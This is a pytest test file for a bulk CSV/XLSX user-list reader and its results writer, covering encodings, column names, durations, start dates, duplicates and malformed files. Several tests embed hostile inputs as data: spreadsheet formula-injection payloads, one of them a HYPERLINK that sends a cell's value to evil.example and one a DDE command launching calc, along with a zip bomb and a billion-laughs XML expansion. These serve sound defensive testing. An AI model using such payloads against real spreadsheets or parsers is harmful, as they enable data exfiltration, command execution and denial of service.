from __future__ import annotations

import codecs
import csv
import io
import random
import time as clock
import zipfile
from datetime import UTC, datetime, time, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from openpyxl import Workbook

from bot.domain.bulk_file import (
    BulkFile,
    BulkFileError,
    Duplicate,
    RequestedRow,
    RowProblem,
    read_bulk_file,
    write_results_csv,
)
from bot.domain.bulk_file_reading import (
    EMPTY,
    NO_HEADER_ROW,
    NO_USER_COLUMN,
    NOT_A_TABLE,
    NOT_UTF8,
    TOO_MANY_COLUMNS,
    XLSX_LOCKED,
    XLSX_TOO_BIG,
)
from bot.domain.errors import TapError

NOW = datetime(2026, 11, 26, 13, 0, tzinfo=UTC)
BERLIN = ZoneInfo("Europe/Berlin")
GUID = "3f2b9c1e-0000-4000-8000-00000000abcd"
ALICE = "alice@contoso.com"
BOB = "bob@contoso.com"


def read(data: bytes, filename: str = "users.csv", *, max_rows: int = 100, **options: int) -> BulkFile:
    return read_bulk_file(data, filename, max_rows=max_rows, now=NOW, tz=BERLIN, **options)


def read_text(text: str, filename: str = "users.csv", **options: int) -> BulkFile:
    return read(text.encode("utf-8"), filename, **options)


def refusal(data: bytes, filename: str = "users.csv", *, max_rows: int = 100) -> str:
    with pytest.raises(BulkFileError) as raised:
        read(data, filename, max_rows=max_rows)
    return raised.value.user_message


def targets(file: BulkFile) -> list[str]:
    return [row.target for row in file.rows]


def reasons(file: BulkFile) -> list[tuple[int, str]]:
    return [(problem.line, problem.reason) for problem in file.problems]


def berlin(day: int, hour: int, minute: int = 0, month: int = 12, year: int = 2026) -> datetime:
    return datetime(year, month, day, hour, minute, tzinfo=BERLIN).astimezone(UTC)


# --- encodings, delimiters, line ends ---------------------------------------------------------------------

SAMPLE = "userPrincipalName,displayName,lifetime\r\nalice@contoso.com,Zoë Müller,8h\r\nbob@contoso.com,Ōta 太郎,90\r\n"


@pytest.mark.parametrize(
    "data",
    [
        SAMPLE.encode("utf-8"),
        SAMPLE.encode("utf-8-sig"),
        codecs.BOM_UTF8 + SAMPLE.encode("utf-8"),
        codecs.BOM_UTF16_LE + SAMPLE.encode("utf-16-le"),
        codecs.BOM_UTF16_BE + SAMPLE.encode("utf-16-be"),
        SAMPLE.encode("utf-16"),  # the platform's BOM and byte order
        SAMPLE.replace("\r\n", "\n").encode("utf-8"),
        SAMPLE.replace("\r\n", "\r").encode("utf-8"),
        SAMPLE.rstrip().encode("utf-8"),  # no line end after the last row
    ],
    ids=["utf-8", "utf-8-sig", "bom", "utf-16-le", "utf-16-be", "utf-16", "lf", "cr", "no-final-newline"],
)
def test_encodings_and_line_ends(data: bytes) -> None:
    file = read(data)
    assert file.rows == (RequestedRow(2, ALICE, 480), RequestedRow(3, BOB, 90))
    assert file.problems == () and file.duplicates == ()
    assert file.columns == ("userPrincipalName", "lifetime")
    assert file.ignored_columns == ("displayName",)


def test_excel_unicode_text_is_utf16_tab_separated_txt() -> None:
    text = "UPN\tName\tLifetime\r\nalice@contoso.com\tZoë\t2d\r\n"
    file = read(codecs.BOM_UTF16_LE + text.encode("utf-16-le"), "Users.TXT")
    assert file.rows == (RequestedRow(2, ALICE, 2880),)


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_delimiter_is_sniffed_from_the_header(delimiter: str) -> None:
    other = ";" if delimiter == "," else ","
    lines = [
        delimiter.join(["Name", "UPN", "Lifetime"]),
        delimiter.join([f'"Smith{delimiter} Al{other} Jr"', ALICE, "8h"]),
        delimiter.join([f'"say ""hi""{other} {delimiter}"', BOB, ""]),
    ]
    file = read_text("\n".join(lines), "users.tsv" if delimiter == "\t" else "users.csv")
    assert file.rows == (RequestedRow(2, ALICE, 480), RequestedRow(3, BOB))
    assert file.ignored_columns == ("Name",)


def test_commas_inside_a_semicolon_file_do_not_fool_the_sniffer() -> None:
    text = 'Name;UPN\n"Vance, Adele, Dr.";alice@contoso.com\n"Gu, Lee";bob@contoso.com\n'
    assert targets(read_text(text)) == [ALICE, BOB]


def test_quoted_header_and_spaces_after_delimiters() -> None:
    text = '"User Principal Name", "Life time"\nalice@contoso.com, "1h30m"\n'
    assert read_text(text).rows == (RequestedRow(2, ALICE, 90),)


# --- headers ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "userPrincipalName",
        "UserPrincipalName",
        "USER_PRINCIPAL_NAME",
        "user-principal-name",
        "User Principal Name",
        "UPN",
        " upn ",
        "Email",
        "E-mail",
        "e_mail",
        "Email Address",
        "Mail",
        "User",
        "objectId",
        "Object ID",
        "User name [userPrincipalName] Required",
    ],
)
def test_each_accepted_user_column_name(name: str) -> None:
    file = read_text(f"Department,{name}\nSales,{ALICE}\nIT,{GUID}\n")
    assert targets(file) == [ALICE, GUID]
    assert file.columns == ("userPrincipalName",)


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        ("User,Mail,E-mail,UPN,userPrincipalName", 4),
        ("User,Mail,Email,UPN", 3),
        ("User,Mail,E-Mail", 2),
        ("objectId,User,Mail", 2),
        ("objectId,User", 1),
    ],
)
def test_user_column_priority(header: str, expected: int) -> None:
    names = header.split(",")
    values = [f"c{index}@contoso.com" for index in range(len(names))]
    file = read_text(f"{header}\n{','.join(values)}\n")
    assert targets(file) == [values[expected]]
    assert file.ignored_columns == tuple(name for index, name in enumerate(names) if index != expected)


@pytest.mark.parametrize(
    ("lifetime", "once", "start"),
    [
        ("lifetime", "once", "start"),
        ("Lifetime", "One Time", "Start Date Time"),
        ("LIFETIME_IN_MINUTES", "one-time", "startDateTime"),
        ("lifetimeInMinutes", "oneTime", "START"),
        ("Lifetime", "isUsableOnce", "start_date_time"),
    ],
)
def test_optional_column_names(lifetime: str, once: str, start: str) -> None:
    file = read_text(f"{start},{once},UPN,{lifetime}\n2026-12-01 09:30,yes,{ALICE},8h\n")
    assert file.rows == (RequestedRow(2, ALICE, 480, True, berlin(1, 9, 30)),)
    assert file.columns == ("userPrincipalName", "lifetime", "once", "start")


def test_entra_bulk_template_with_version_line() -> None:
    text = (
        "version:v1.0\n"
        "User name [userPrincipalName] Required,Display name [displayName] Required\n"
        "alice@contoso.com,Alice\n"
    )
    file = read_text(text)
    assert file.rows == (RequestedRow(3, ALICE),)
    assert file.ignored_columns == ("Display name [displayName] Required",)


@pytest.mark.parametrize(
    ("header", "column"),
    [
        ("UPN,Lifetime (hours)", "Lifetime (hours)"),
        ("UPN,lifetime_days", "lifetime_days"),
        ("UPN,Start date", "Start date"),
        ("UPN,Once only", "Once only"),
    ],
)
def test_a_column_that_looks_like_an_option_but_is_not_one_is_refused(header: str, column: str) -> None:
    message = refusal(f"{header}\n{ALICE},8\n".encode())
    assert f"'{column}'" in message and "rename it" in message


@pytest.mark.parametrize("header", ["UPN,lifetime,Life Time", "UPN,upn", "E-mail,Email"])
def test_the_same_column_twice_is_refused(header: str) -> None:
    assert "the same column twice" in refusal(f"{header}\n{ALICE},8h,8h\n".encode())


def test_no_user_column_names_the_accepted_names() -> None:
    message = refusal(b"Name,Department\nAlice,Sales\n")
    assert message == NO_USER_COLUMN
    for name in ("userPrincipalName", "UPN", "Email", "E-mail", "Mail", "User"):
        assert name in message


def test_blank_lines_and_delimiter_only_lines_are_skipped_with_physical_line_numbers() -> None:
    text = "\n\n  \nUPN,lifetime,,\n\n,,,\nalice@contoso.com,8h,,\n;;\n\nbob@contoso.com,,,\n\n"
    file = read_text(text)
    assert file.rows == (RequestedRow(7, ALICE, 480), RequestedRow(10, BOB))


def test_quoted_line_breaks_keep_line_numbers_physical() -> None:
    text = 'UPN,Note\nalice@contoso.com,"first\nsecond\r\nthird"\nbob@contoso.com,x\n'
    assert read_text(text).rows == (RequestedRow(2, ALICE), RequestedRow(5, BOB))


def test_trailing_and_missing_cells() -> None:
    text = "UPN,lifetime,once,start,,,\nalice@contoso.com,8h,,,,,\nbob@contoso.com\n"
    assert read_text(text).rows == (RequestedRow(2, ALICE, 480), RequestedRow(3, BOB))


def test_users_are_stripped() -> None:
    text = f"UPN\n  {ALICE}\t\n\u00a0{GUID.upper()} \n"
    assert targets(read_text(text)) == [ALICE, GUID.upper()]


# --- a file without a header ----------------------------------------------------------------------------


def test_single_column_without_header() -> None:
    file = read_text(f"{ALICE}\r\n\r\n{GUID}\r\n{BOB}\r\n")
    assert file.rows == (RequestedRow(1, ALICE), RequestedRow(3, GUID), RequestedRow(4, BOB))
    assert not file.has_header and file.columns == ("userPrincipalName",)


def test_single_column_without_header_with_a_trailing_delimiter() -> None:
    assert targets(read_text(f"{ALICE};\n{BOB};\n")) == [ALICE, BOB]


def test_without_header_other_values_are_reported_not_ignored() -> None:
    file = read_text(f"{ALICE}\n{BOB},8h\nnot-a-user\n")
    assert file.rows == (RequestedRow(1, ALICE),)
    assert [problem.line for problem in file.problems] == [2, 3]
    assert "add a header row" in file.problems[0].reason
    assert file.problems[1] == RowProblem(3, "not-a-user", "'not-a-user' is not a user principal name or object id")


def test_first_row_with_a_user_and_more_values_asks_for_a_header() -> None:
    assert refusal(f"{ALICE},8h,yes\n{BOB},1h,no\n".encode()) == NO_HEADER_ROW


# --- values ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "minutes"),
    [("90", 90), ("90m", 90), ("8h", 480), ("2d", 2880), ("1h30m", 90), (" 8H ", 480), ("", None)],
)
def test_lifetimes(value: str, minutes: int | None) -> None:
    assert read_text(f"UPN,lifetime\n{ALICE},{value}\n").rows == (RequestedRow(2, ALICE, minutes),)


@pytest.mark.parametrize("value", ["soon", "0", "0h", "-5", "1.5", "8 weeks", "9" * 5000])
def test_lifetime_problems(value: str) -> None:
    file = read_text(f"UPN,lifetime\n{ALICE},{value}\n")
    assert file.rows == ()
    (problem,) = file.problems
    assert problem.line == 2 and problem.text == ALICE
    assert problem.reason.startswith("lifetime '") and "is not a duration" in problem.reason
    assert len(problem.reason) < 120


@pytest.mark.parametrize(
    ("value", "one_time"),
    [
        ("yes", True),
        ("YES", True),
        ("true", True),
        ("TRUE", True),
        ("1", True),
        ("x", True),
        ("X", True),
        ("no", False),
        ("false", False),
        ("FALSE", False),
        ("0", False),
        ("", None),
        ("  ", None),
    ],
)
def test_one_time_values(value: str, one_time: bool | None) -> None:
    assert read_text(f"UPN,once\n{ALICE},{value}\n").rows == (RequestedRow(2, ALICE, one_time=one_time),)


def test_one_time_problem() -> None:
    file = read_text(f"UPN,once\n{ALICE},maybe\n")
    assert reasons(file) == [(2, "once 'maybe' is not yes or no")]


@pytest.mark.parametrize(
    ("value", "start"),
    [
        ("2026-12-01", berlin(1, 8)),
        ("2026-12-01 09:30", berlin(1, 9, 30)),
        ("2026-12-01 9:30", berlin(1, 9, 30)),
        ("2026-12-01T09:30", berlin(1, 9, 30)),
        ("2026-12-01T09:30:15", berlin(1, 9, 30) + timedelta(seconds=15)),
        ("2026-12-01t09:30z", datetime(2026, 12, 1, 9, 30, tzinfo=UTC)),
        ("2026-12-01T09:30:00Z", datetime(2026, 12, 1, 9, 30, tzinfo=UTC)),
        ("2026-12-01T09:30:00.000Z", datetime(2026, 12, 1, 9, 30, tzinfo=UTC)),
        ("2026-12-01T09:30+01:00", datetime(2026, 12, 1, 8, 30, tzinfo=UTC)),
        ("2026-12-01 09:30 -0500", datetime(2026, 12, 1, 14, 30, tzinfo=UTC)),
        ("now", None),
        ("", None),
        ("2026-11-26 14:00", datetime(2026, 11, 26, 13, 0, tzinfo=UTC)),  # this very minute, Berlin time
    ],
)
def test_starts_are_read_in_the_time_zone(value: str, start: datetime | None) -> None:
    file = read_text(f"UPN,start\n{ALICE},{value}\n")
    assert file.rows == (RequestedRow(2, ALICE, start_at=start),)
    if start is not None:
        assert file.rows[0].start_at is not None and file.rows[0].start_at.tzinfo == UTC


def test_summer_time_and_the_start_horizon() -> None:
    spring = datetime(2027, 5, 1, 12, 0, tzinfo=UTC)
    summer = read_bulk_file(f"UPN,start\n{ALICE},2027-07-01\n".encode(), "users.csv", max_rows=9, now=spring, tz=BERLIN)
    assert summer.rows == (RequestedRow(2, ALICE, start_at=berlin(1, 8, month=7, year=2027)),)
    # Seen from November, July is beyond the 90 days a pass may be prepared ahead; so is the end of the calendar.
    far = read_text(f"UPN,start\n{ALICE},2027-07-01\n{BOB},9999-12-31 23:00\n")
    assert far.rows == ()
    assert reasons(far) == [
        (2, "start '2027-07-01' is more than 90 days ahead"),
        (3, "start '9999-12-31 23:00' is more than 90 days ahead"),
    ]


def test_a_bare_date_starts_at_the_default_hour() -> None:
    file = read_text(f"UPN,start\n{ALICE},2026-12-01\n", default_start_hour=6)
    assert file.rows[0].start_at == berlin(1, 6)


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ("2020-01-01", "start '2020-01-01' has already passed"),
        ("2026-11-26 13:58", "start '2026-11-26 13:58' has already passed"),  # 12:58 UTC
        ("01/12/2026", "start '01/12/2026' is not a date"),
        ("12/1/2026 8:00", "start '12/1/2026 8:00' is not a date"),
        ("2026-02-30", "start '2026-02-30' is not a date"),
        ("2026-12-01 25:00", "start '2026-12-01 25:00' is not a date"),
        ("2026-12-01T08:00+25:00", "start '2026-12-01T08:00+25:00' is not a date"),
        ("tomorrow", "start 'tomorrow' is not a date"),
        ("9999-12-31T23:59-05:00", "start '9999-12-31T23:59-05:00' is more than 90 days ahead"),
    ],
)
def test_start_problems(value: str, reason: str) -> None:
    file = read_text(f"UPN,start\n{ALICE},{value}\n")
    assert file.rows == ()
    (problem,) = file.problems
    assert problem.reason.startswith(reason)


def test_every_problem_of_a_row_is_reported_and_the_row_is_left_out() -> None:
    file = read_text(f"UPN,lifetime,once,start\n{ALICE},soon,maybe,2020-01-01\n{BOB},8h,yes,2026-12-01\n")
    assert file.rows == (RequestedRow(3, BOB, 480, True, berlin(1, 8)),)
    assert [problem.reason.split(" ")[0] for problem in file.problems] == ["lifetime", "once", "start"]
    assert {problem.line for problem in file.problems} == {2}


def test_user_problems() -> None:
    text = "UPN,lifetime\nbob,8h\n,8h\n@contoso.com\nalice@contoso\n<alice@contoso.com>\n"
    file = read_text(text)
    assert file.rows == ()
    assert file.problems[0] == RowProblem(2, "bob", "'bob' is not a user principal name or object id")
    assert file.problems[1] == RowProblem(3, None, "no user is given on this line")
    assert [problem.line for problem in file.problems] == [2, 3, 4, 5, 6]


def test_long_values_are_shortened_in_sentences() -> None:
    long = "x" * 500
    file = read_text(f"UPN,lifetime\n{long},{long}\n")
    assert all(len(problem.reason) < 130 for problem in file.problems)
    assert file.problems[0].text is not None and len(file.problems[0].text) <= 100


# --- duplicates --------------------------------------------------------------------------------------------


def test_duplicates_are_reported_once_with_every_line_and_only_the_first_is_kept() -> None:
    text = (
        f"UPN,lifetime\n{BOB},1h\n{ALICE},8h\n{BOB.upper()},2h\n{GUID},\nAlice@Contoso.com,\n{GUID.upper()},\n{BOB},\n"
    )
    file = read_text(text)
    assert file.rows == (RequestedRow(2, BOB, 60), RequestedRow(3, ALICE, 480), RequestedRow(5, GUID))
    assert file.duplicates == (
        Duplicate(BOB, (2, 4, 8)),
        Duplicate(ALICE, (3, 6)),
        Duplicate(GUID, (5, 7)),
    )


def test_a_duplicate_of_a_row_with_a_problem_is_not_acted_on() -> None:
    file = read_text(f"UPN,lifetime\n{ALICE},soon\n{ALICE},8h\n")
    assert file.rows == ()
    assert file.duplicates == (Duplicate(ALICE, (2, 3)),)
    assert reasons(file) == [(2, "lifetime 'soon' is not a duration like 90m, 8h or 2d")]


# --- hostile and unusable files ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00",
        b"UPN\nalice@contoso.com\x00\n",
        "UPN\nalice@contoso.com\n".encode("utf-16-le"),  # UTF-16 without a BOM is full of NULs
        codecs.BOM_UTF16_LE + b"U\x00P\x00N",  # an odd number of bytes
        codecs.BOM_UTF8 + b"UPN\n\xff\xfe\n",
        b"PK\x03\x04\x14\x00\x00\x00\x08\x00",  # a workbook renamed to .csv
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nstream\x01\x02\x03",
        random.Random(1).randbytes(4096),
        codecs.BOM_UTF8 + "UPN\nalice@contoso.com\u0007\n".encode(),
    ],
    ids=["png", "nul", "utf-16-no-bom", "odd-utf-16", "bad-utf-8-after-bom", "zip", "pdf", "random", "bell"],
)
def test_binary_and_garbage_are_refused(data: bytes) -> None:
    assert refusal(data) == NOT_A_TABLE


def test_legacy_code_page_text_is_told_to_save_as_utf8() -> None:
    data = "UPN,Name\nalice@contoso.com,Zoë Müller\n".encode("cp1252")
    assert refusal(data) == NOT_UTF8


@pytest.mark.parametrize(
    "data",
    [b"", codecs.BOM_UTF8, codecs.BOM_UTF16_LE, b"\r\n\r\n  \n", b",,,\n;;\n", b"version:v1.0\n", b"UPN,lifetime\n\n"],
)
def test_empty_files_are_refused(data: bytes) -> None:
    assert refusal(data) == EMPTY


@pytest.mark.parametrize("filename", ["users.xls", "users.xlsm", "users.xlsb", "users.ods", "users.json", "users"])
def test_other_file_types_are_told_to_save_as_csv_or_xlsx(filename: str) -> None:
    message = refusal(f"UPN\n{ALICE}\n".encode(), filename)
    assert "CSV UTF-8" in message and ".xlsx" in message and f"'{filename}'" in message


@pytest.mark.parametrize("filename", ["users.CSV", "users.Txt", "users.tsv", " users.csv "])
def test_text_extensions_in_any_case(filename: str) -> None:
    assert targets(read(f"UPN\n{ALICE}\n".encode(), filename)) == [ALICE]


def test_row_cap_counts_data_rows_only() -> None:
    body = "".join(f"user{index}@contoso.com\n\n" for index in range(10))
    assert len(read_text(f"UPN\n{body}", max_rows=10).rows) == 10
    message = refusal(f"UPN\n{body}user10@contoso.com\n".encode(), max_rows=10)
    assert message.startswith("The file has more than 10 rows; split it")


def test_row_cap_stops_early_on_a_huge_file() -> None:
    data = b"UPN\n" + b"user@contoso.com\n" * 500_000
    started = clock.perf_counter()
    assert "more than 1000 rows" in refusal(data, max_rows=1000)
    assert clock.perf_counter() - started < 5  # far less in practice: it never reads past row 1001


def test_row_cap_applies_without_header() -> None:
    assert "more than 2 rows" in refusal(f"{ALICE}\n{BOB}\n{GUID}\n".encode(), max_rows=2)


def test_an_unclosed_quote_names_its_line() -> None:
    message = refusal(f'UPN,Name\n{ALICE},Alice\n{BOB},"Bob\n{GUID},Someone\n'.encode())
    assert message.startswith("Line 3 can't be read")


def test_a_value_beyond_the_csv_field_limit_names_its_line() -> None:
    assert refusal(f"UPN\n{ALICE}\n{'x' * 200_000}\n".encode()).startswith("Line 3 can't be read")


@pytest.mark.parametrize("header", [b"UPN" + b"," * 5000, b"UPN" + b";" * 5000, b"UPN\t" + b"x\t" * 5000])
def test_a_header_with_thousands_of_columns_is_refused(header: bytes) -> None:
    assert refusal(header + b"\n" + ALICE.encode()) == TOO_MANY_COLUMNS


def test_a_header_cell_beyond_the_csv_field_limit_is_refused() -> None:
    assert refusal(b"x" * 200_000 + b"\n") == NO_USER_COLUMN


def test_formulas_are_data_and_fail_as_users() -> None:
    payloads = [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ]
    lines = ["UPN,lifetime,once,start"]
    lines += ['"' + payload.replace('"', '""') + '",,,' for payload in payloads]
    lines.append(f"{ALICE},=1+1,=TRUE(),=NOW()")
    file = read_text("\n".join(lines))
    assert file.rows == ()
    users = [problem for problem in file.problems if "is not a user principal name" in problem.reason]
    assert [problem.text for problem in users] == [payload.strip() for payload in payloads]
    assert [problem.reason.split(" ")[0] for problem in file.problems if problem.text == ALICE] == [
        "lifetime",
        "once",
        "start",
    ]


def test_control_characters_are_visible_in_sentences() -> None:
    file = read_text('UPN\n"bob\rx@contoso.com"\n')
    assert file.problems[0].reason == "'bob\\rx@contoso.com' is not a user principal name or object id"


def test_bulk_file_error_is_a_tap_error() -> None:
    error = BulkFileError("Do this.")
    assert isinstance(error, TapError) and str(error) == error.user_message == "Do this."


# --- Excel workbooks ------------------------------------------------------------------------------------------


def workbook_bytes(*rows: list[Any], title: str = "Users", before: list[str] | None = None) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    if before is not None:
        sheet.title = "Notes"
        for name in before:
            sheet.append([name])
        sheet = workbook.create_sheet(title)
    else:
        sheet.title = title
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_xlsx_with_typed_cells() -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["Name", "User Principal Name", "Lifetime", "One-Time", "Start"])
    sheet.append(["Alice", ALICE, 90, True, datetime(2026, 12, 1, 9, 30)])
    sheet.append(["Bob", BOB, "8h", "yes", datetime(2026, 12, 2)])
    sheet.append([None, None, None, None, None])
    sheet.append(["Guid", GUID, 120.0, 0, "2026-12-03"])
    sheet.append(["Carol", "carol@contoso.com", time(8, 0), 1, datetime(2026, 12, 4, 0, 0)])
    sheet["E2"].number_format = "yyyy-mm-dd hh:mm"
    sheet["E3"].number_format = "yyyy-mm-dd"  # shown as a date: the default start hour
    sheet["C6"].number_format = "h:mm"
    sheet["E6"].number_format = "dd/mm/yyyy hh:mm"  # midnight, shown with a time: midnight
    buffer = io.BytesIO()
    workbook.save(buffer)
    file = read(buffer.getvalue(), "Users.XLSX")
    assert file.rows == (
        RequestedRow(2, ALICE, 90, True, berlin(1, 9, 30)),
        RequestedRow(3, BOB, 480, True, berlin(2, 8)),
        RequestedRow(5, GUID, 120, False, berlin(3, 8)),
        RequestedRow(6, "carol@contoso.com", 480, True, berlin(4, 0)),
    )
    assert file.columns == ("userPrincipalName", "lifetime", "once", "start")
    assert file.ignored_columns == ("Name",)
    assert file.problems == ()


def test_xlsx_reads_the_first_worksheet_only() -> None:
    data = workbook_bytes(["UPN"], [BOB], before=["UPN", ALICE])
    assert targets(read(data, "users.xlsx")) == [ALICE]


def test_xlsx_skips_blank_rows_and_numbers_rows_as_excel_does() -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet["B3"] = "Email"
    sheet["B4"] = ALICE
    sheet["B9"] = BOB
    sheet["C9"] = None
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert read(buffer.getvalue(), "users.xlsx").rows == (RequestedRow(4, ALICE), RequestedRow(9, BOB))


def test_xlsx_value_problems_and_duplicates() -> None:
    data = workbook_bytes(
        ["UPN", "lifetime", "once", "start"],
        [ALICE, "soon", "maybe", datetime(2020, 1, 1, 8, 0)],
        [BOB, 1.5, 2, time(8, 0)],
        [BOB.upper(), True, None, None],
        [12345, None, None, None],
    )
    file = read(data, "users.xlsx")
    assert file.rows == ()
    assert reasons(file) == [
        (2, "lifetime 'soon' is not a duration like 90m, 8h or 2d"),
        (2, "once 'maybe' is not yes or no"),
        (2, "start '2020-01-01 08:00' has already passed"),
        (3, "lifetime '1.5' is not a duration like 90m, 8h or 2d"),
        (3, "once '2' is not yes or no"),
        (3, "start '08:00' has no date; write YYYY-MM-DD HH:MM"),
        (4, "lifetime 'True' is not a duration like 90m, 8h or 2d"),
        (5, "'12345' is not a user principal name or object id"),
    ]
    assert file.duplicates == (Duplicate(BOB, (3, 4)),)


def test_xlsx_without_header() -> None:
    file = read(workbook_bytes([ALICE], [BOB, "8h"], [GUID]), "users.xlsx")
    assert file.rows == (RequestedRow(1, ALICE), RequestedRow(3, GUID))
    assert not file.has_header
    assert file.problems[0].line == 2 and "add a header row" in file.problems[0].reason


def test_xlsx_formulas_are_never_evaluated() -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["UPN", "lifetime"])
    sheet.append(['=CONCAT("alice","@contoso.com")', "8h"])  # a formula with no saved value reads as empty
    sheet.append(["=cmd|' /C calc'!A0", "=1+1"])
    sheet.append(["@SUM(A1:A9)", None])
    sheet["A4"].data_type = "s"  # text that merely looks like a formula
    sheet.append([BOB, None])
    buffer = io.BytesIO()
    workbook.save(buffer)
    file = read(buffer.getvalue(), "users.xlsx")
    assert file.rows == (RequestedRow(5, BOB),)
    assert reasons(file) == [
        (2, "no user is given on this line"),
        (4, "'@SUM(A1:A9)' is not a user principal name or object id"),
    ]


def test_xlsx_row_cap() -> None:
    data = workbook_bytes(["UPN"], *[[f"user{index}@contoso.com"] for index in range(6)])
    assert len(read(data, "users.xlsx", max_rows=6).rows) == 6
    assert "more than 5 rows" in refusal(data, "users.xlsx", max_rows=5)


def test_xlsx_header_problems() -> None:
    assert refusal(workbook_bytes(["Name"], ["Alice"]), "users.xlsx") == NO_USER_COLUMN
    assert refusal(workbook_bytes(["UPN"]), "users.xlsx") == EMPTY
    assert refusal(workbook_bytes(), "users.xlsx") == EMPTY
    assert "Lifetime (hours)" in refusal(workbook_bytes(["UPN", "Lifetime (hours)"], [ALICE, 8]), "users.xlsx")


def rezip(data: bytes, change: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(buffer, "w", compression) as target:
        for member in source.infolist():
            target.writestr(member.filename, change.get(member.filename, source.read(member)))
    return buffer.getvalue()


def test_xlsx_zip_bomb_is_refused_before_opening() -> None:
    base = workbook_bytes(["UPN"], [ALICE])
    bomb = rezip(base, {"xl/worksheets/sheet1.xml": b"\0" * (60 * 1024 * 1024)})
    assert len(bomb) < 1024 * 1024
    assert refusal(bomb, "users.xlsx") == XLSX_TOO_BIG


def test_xlsx_with_too_many_parts_is_refused() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for index in range(10_001):
            archive.writestr(f"part{index}.xml", b"")
    assert refusal(buffer.getvalue(), "users.xlsx") == XLSX_TOO_BIG


def test_xlsx_with_bzip2_parts_is_refused() -> None:
    data = rezip(workbook_bytes(["UPN"], [ALICE]), {}, zipfile.ZIP_BZIP2)
    assert refusal(data, "users.xlsx") == NOT_A_TABLE


def test_xlsx_rows_beyond_excel_are_ignored() -> None:
    data = workbook_bytes(["UPN"], [ALICE])
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    far = b'<row r="99999999"><c r="A99999999" t="inlineStr"><is><t>bob@contoso.com</t></is></c></row></sheetData>'
    data = rezip(data, {"xl/worksheets/sheet1.xml": sheet.replace(b"</sheetData>", far)})
    started = clock.perf_counter()
    assert targets(read(data, "users.xlsx")) == [ALICE]
    assert clock.perf_counter() - started < 10  # openpyxl pads up to Excel's last row, no further


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"not a zip at all", NOT_A_TABLE),
        (b"PK\x03\x04" + b"\0" * 100, NOT_A_TABLE),
        (bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 512, XLSX_LOCKED),
        (random.Random(2).randbytes(2048), NOT_A_TABLE),
    ],
    ids=["text", "broken-zip", "ole", "random"],
)
def test_xlsx_garbage_is_refused(data: bytes, message: str) -> None:
    assert refusal(data, "users.xlsx") == message


def test_a_zip_that_is_not_a_workbook_is_refused() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "hello")
    assert refusal(buffer.getvalue(), "users.xlsx") == NOT_A_TABLE


def test_xlsx_with_a_broken_sheet_is_refused() -> None:
    data = rezip(workbook_bytes(["UPN"], [ALICE]), {"xl/worksheets/sheet1.xml": b"<worksheet><sheetData><row"})
    assert refusal(data, "users.xlsx") == NOT_A_TABLE


def test_xlsx_with_an_entity_expansion_is_refused() -> None:
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + b"".join(
            f'<!ENTITY lol{level} "{("&lol" + (str(level - 1) if level > 1 else "") + ";") * 10}">'.encode()
            for level in range(1, 10)
        )
        + b']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        + b'<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>'
    )
    data = rezip(workbook_bytes(["UPN"], [ALICE]), {"xl/worksheets/sheet1.xml": laughs})
    started = clock.perf_counter()
    assert refusal(data, "users.xlsx") == NOT_A_TABLE  # expat (>= 2.4) stops a billion laughs
    assert clock.perf_counter() - started < 10


# --- the results file -----------------------------------------------------------------------------------------


def test_results_csv_is_utf8_with_bom_and_crlf() -> None:
    data = write_results_csv(
        [["alice@contoso.com", "issued", "Zoë"], ["bob@contoso.com", "refused", ""]], ["a", "b", "c"]
    )
    assert data.startswith(codecs.BOM_UTF8)
    assert data.decode("utf-8-sig") == "a,b,c\r\nalice@contoso.com,issued,Zoë\r\nbob@contoso.com,refused,\r\n"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", '"\'\r=1"'),
        ('=HYPERLINK("http://x","y")', '"\'=HYPERLINK(""http://x"",""y"")"'),
        ("＝1+1", "'＝1+1"),
        ("a=1", "a=1"),
        ("alice@contoso.com", "alice@contoso.com"),
        ("x-y", "x-y"),
        ('say "hi"', '"say ""hi"""'),
        ("a,b", '"a,b"'),
        ("", '""'),  # a row of one empty cell, not a blank line
    ],
)
def test_results_csv_neutralises_formulas(cell: str, written: str) -> None:
    data = write_results_csv([[cell]], ["h"])
    assert data.decode("utf-8-sig") == f"h\r\n{written}\r\n"


def test_results_csv_neutralises_the_header_too() -> None:
    assert write_results_csv([], ["=evil", "ok"]).decode("utf-8-sig") == "'=evil,ok\r\n"


